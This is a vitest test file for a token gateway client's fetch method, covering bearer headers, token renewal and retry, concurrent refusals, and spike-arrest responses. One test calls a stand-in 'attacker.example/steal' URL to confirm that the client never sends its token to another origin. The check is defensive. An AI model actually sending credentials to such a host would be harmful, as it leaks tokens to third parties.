import { afterEach, describe, expect, it } from 'vitest';
import { TokenClient, type TokenClientOptions } from '@token-gateway/client';
import { APP, USER } from '../helpers/accounts.js';
import { ManualClock } from '../helpers/clock.js';
import { CountingFetch } from '../helpers/counting-fetch.js';
import { bootGateway, revoke, type BootOptions, type TestGateway } from '../helpers/gateway.js';

const DIRECTORS = '/business/score/v2/directors';

describe('TokenClient.fetch (SPEC 4.6)', () => {
  let tg: TestGateway | undefined;
  let wire: CountingFetch;

  async function boot(options: BootOptions = {}): Promise<{ gateway: TestGateway; client: TokenClient }> {
    const clock = new ManualClock(Date.now());
    wire = await CountingFetch.create();
    tg = await bootGateway({ clock, ...options });
    const client = new TokenClient({
      baseUrl: tg.url,
      clientId: APP.client_id,
      clientSecret: APP.client_secret,
      ...USER,
      fetch: wire.fetch,
      now: () => clock.now(),
    } satisfies TokenClientOptions);
    return { gateway: tg, client };
  }

  afterEach(async () => {
    await tg?.close();
    tg = undefined;
  });

  it('adds the Bearer token and passes method, query, body and headers through', async () => {
    const { gateway, client } = await boot();
    const body = JSON.stringify({ company: 'ACME Ltd' });
    const response = await client.fetch(`${gateway.url}${DIRECTORS}?country=GB`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-partner-id': 'p-7' },
      body,
    });
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ ok: true, url: `${DIRECTORS}?country=GB` });
    const seen = gateway.upstream.seen.at(-1);
    expect(seen).toMatchObject({ method: 'POST', url: `${DIRECTORS}?country=GB`, body });
    expect(seen?.headers).toMatchObject({
      authorization: `Bearer ${wire.lastIssued.access_token}`,
      'content-type': 'application/json',
      'x-partner-id': 'p-7',
    });
  });

  it('takes a path relative to baseUrl, or a Request, and works when detached from the client', async () => {
    const { gateway, client } = await boot();
    const { fetch } = client;
    expect((await fetch(DIRECTORS)).status).toBe(200);
    const request = new Request(`${gateway.url}${DIRECTORS}`, { method: 'DELETE', headers: { accept: 'application/json' } });
    expect((await fetch(request)).status).toBe(200);
    expect(gateway.upstream.seen.at(-1)).toMatchObject({ method: 'DELETE', headers: { accept: 'application/json' } });
    expect(wire.sent).toEqual(['password', 'api', 'api']);
  });

  it("replaces a caller's Authorization header", async () => {
    const { gateway, client } = await boot();
    await client.fetch(DIRECTORS, { headers: { authorization: 'Bearer somebody-elses' } });
    expect(gateway.upstream.seen.at(-1)?.headers.authorization).toBe(`Bearer ${wire.lastIssued.access_token}`);
  });

  it('never sends the token to another origin', async () => {
    const { client } = await boot();
    await expect(client.fetch('https://attacker.example/steal')).rejects.toThrow(/not one of them/);
    expect(wire.sent).toEqual([]);
  });

  it('renews once, although the token looked fresh, and retries once when the gateway refuses the token', async () => {
    const { gateway, client } = await boot();
    await client.getAccessToken();
    await revoke(gateway.url, wire.lastIssued.access_token);
    const response = await client.fetch(DIRECTORS, { method: 'PUT', body: 'payload' });
    expect(response.status).toBe(200);
    expect(wire.sent).toEqual(['password', 'api', 'refresh_token', 'api']);
    expect(gateway.upstream.seen.at(-1)).toMatchObject({ method: 'PUT', body: 'payload' });
  });

  it('lets 100 concurrent refusals share one renewal', async () => {
    const { gateway, client } = await boot();
    await client.getAccessToken();
    await revoke(gateway.url, wire.lastIssued.access_token);
    const responses = await Promise.all(Array.from({ length: 100 }, () => client.fetch(DIRECTORS)));
    expect(responses.map((response) => response.status)).toEqual(Array(100).fill(200));
    expect(wire.count('refresh_token')).toBe(1);
    expect(wire.count('api')).toBe(200);
  });

  it('returns a second 401 to the caller: one renewal, one retry, no loop', async () => {
    const { gateway, client } = await boot();
    // Every token is revoked just before the call that carries it.
    wire.beforeApiCall = async (token) => void (await revoke(gateway.url, token));
    const response = await client.fetch(DIRECTORS);
    expect(response.status).toBe(401);
    expect(response.headers.get('www-authenticate')).toContain('error="invalid_token"');
    expect(wire.sent).toEqual(['password', 'api', 'refresh_token', 'api']);
    // The refused token is not handed out again.
    wire.beforeApiCall = undefined;
    expect((await client.fetch(DIRECTORS)).status).toBe(200);
    expect(wire.count('refresh_token')).toBe(2);
  });

  it('does not replay a stream body: the 401 comes back and the next call uses a new token', async () => {
    const { gateway, client } = await boot();
    await client.getAccessToken();
    await revoke(gateway.url, wire.lastIssued.access_token);
    const body = new Blob(['streamed']).stream();
    const response = await client.fetch(DIRECTORS, { method: 'POST', body, duplex: 'half' } as RequestInit);
    expect(response.status).toBe(401);
    expect(wire.sent).toEqual(['password', 'api']);
    expect((await client.fetch(DIRECTORS)).status).toBe(200);
    expect(wire.sent).toEqual(['password', 'api', 'refresh_token', 'api']);
  });

  it('returns a policy 401 (spike arrest) as it is, without renewing', async () => {
    const { gateway, client } = await boot({
      config: (upstream) => ({ routes: [{ path: '/business/score/v2/', upstream, policies: ['route-arrest'] }] }),
      policies: { arrest: { policies: [{ name: 'route-arrest', kind: 'spike-arrest', rate: '1pm' }] } },
    });
    expect((await client.fetch(DIRECTORS)).status).toBe(200);
    const refused = await client.fetch(DIRECTORS);
    expect(refused.status).toBe(401);
    expect(((await refused.json()) as { errors: Array<{ errorCode: string }> }).errors[0]?.errorCode).toBe('SPIKE_ARREST');
    expect(wire.sent).toEqual(['password', 'api', 'api']);
    expect(gateway.upstream.seen).toHaveLength(1);
  });
});
